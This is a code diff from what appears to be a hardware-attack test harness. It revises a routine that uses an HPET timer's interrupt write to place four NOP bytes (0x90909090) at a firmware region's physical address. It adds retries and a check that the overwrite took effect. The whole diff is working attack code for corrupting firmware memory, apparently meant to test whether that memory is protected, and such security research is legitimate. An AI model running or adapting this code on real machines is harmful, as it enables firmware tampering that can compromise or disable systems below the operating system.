@@ -81,17 +81,25 @@ static void firmware_undo(const struct attack *attack)
 #define HPET_TO_ADDRESS (1 << 14)
 #define HPET_INTERRUPTS (1 << 2)
 #define HPET_SOON 100000
+#define HPET_TRIES 250
+#define HPET_CODE 0x90909090
 
-/* A timer of the HPET writes four bytes in place of an interrupt. */
-static void hpet_write(void __iomem *hpet, u32 to, u32 value)
+/* A timer of the HPET writes four bytes in place of an interrupt; a busy host lets it wait. */
+static void hpet_write(void __iomem *hpet, const u32 *at, u32 value)
 {
 	u32 config = readl(hpet + HPET_CONFIG), timer = readl(hpet + HPET_TIMER);
+	u32 to = physical((unsigned long)at);
+	unsigned int i;
 
 	writeq((u64)to << 32 | value, hpet + HPET_ROUTE);
 	writel(HPET_TO_ADDRESS | HPET_INTERRUPTS, hpet + HPET_TIMER);
 	writel(config | HPET_RUNS, hpet + HPET_CONFIG);
 	writel(readl(hpet + HPET_COUNTER) + HPET_SOON, hpet + HPET_COMPARE);
-	mdelay(50);
+	for (i = 0; i < HPET_TRIES && READ_ONCE(*at) != value; i++) {
+		if (!(readl(hpet + HPET_TIMER) & HPET_TO_ADDRESS))
+			break;
+		msleep(20);
+	}
 	writel(timer, hpet + HPET_TIMER);
 	writel(config, hpet + HPET_CONFIG);
 }
@@ -105,8 +113,8 @@ static int hpet_run(const struct attack *attack, struct result *result)
 		return -ENOENT;
 	firmware_at = end - 3;
 	result->address = physical(firmware_at);
-	hpet_write(hpet, (u32)result->address, 0x90909090);
-	result->effect = *(volatile u8 *)firmware_at == 0x90;
+	hpet_write(hpet, (const u32 *)firmware_at, HPET_CODE);
+	result->effect = *(volatile u32 *)firmware_at == HPET_CODE;
 	iounmap(hpet);
 	return 0;
 }
